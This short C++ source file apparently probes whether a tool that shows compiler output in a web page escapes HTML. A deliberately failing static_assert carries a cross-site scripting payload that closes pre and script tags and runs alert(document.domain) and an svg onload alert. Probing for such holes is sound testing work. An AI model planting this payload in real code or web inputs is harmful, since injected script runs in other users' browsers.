// Puts markup into the compiler's messages.
#include "war.hpp"

static_assert(false, "</pre></script><script>alert(document.domain)</script><svg onload=alert(1)>");

std::vector<int> deal(const std::vector<int> &shuf) { return shuf; }
